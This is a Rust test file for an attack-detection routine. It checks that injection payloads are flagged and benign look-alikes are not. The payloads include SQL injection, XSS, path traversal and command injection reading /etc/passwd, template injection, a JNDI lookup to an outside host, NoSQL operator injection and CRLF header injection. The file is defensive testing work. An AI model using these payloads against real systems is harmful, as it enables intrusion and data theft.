//! Attacks and the honest texts next to them.

use super::{Confidence, Detector, examine};

fn found(text: &str) -> Vec<(Detector, Confidence)> {
    examine(text.as_bytes()).into_iter().map(|catch| (catch.probe.detector, catch.probe.confidence)).collect()
}

#[test]
fn a_value_that_breaks_out_is_found() {
    for (text, detector) in [
        ("x' or 3=3 --", Detector::Sql),
        ("id=7%27%20union%20select%20a,b%20from%20t", Detector::Sql),
        (r#"{"q": "<svg/onload=alert(2)>"}"#, Detector::Script),
        ("..%252f..%252f..%252fetc/passwd", Detector::Path),
        ("host=10.1.1.1; cat /etc/passwd", Detector::Command),
        ("{{7*'7'}}", Detector::Template),
        ("X-Api-Version: ${jndi:ldap://a.example/b}", Detector::Code),
        ("user[$ne]=x", Detector::Query),
        ("/%0d%0aSet-Cookie: a=b", Detector::Server),
    ] {
        assert!(found(text).iter().any(|(own, _)| *own == detector), "{text}: {:?}", found(text));
    }
}

#[test]
fn an_honest_value_is_not() {
    for text in [
        "O'Brien",
        "5 < 6 and 7 > 3",
        "the SELECT committee or 1 other",
        "Tom & Jerry's",
        "rock 'n' roll & blues",
        "SELECT name FROM users WHERE a = 'x' OR b = 'y'",
        "ls -la | grep txt",
        "What does ' OR 1=1 -- do?",
        "How do I stop <script>alert(1)</script> in comments?",
        "import x from '../../utils/x.js'",
        "https://shop.example/a?size=10&sort=price",
        "<button onclick=\"save()\">Save</button>",
    ] {
        assert_eq!(found(text), Vec::new(), "{text}");
    }
}
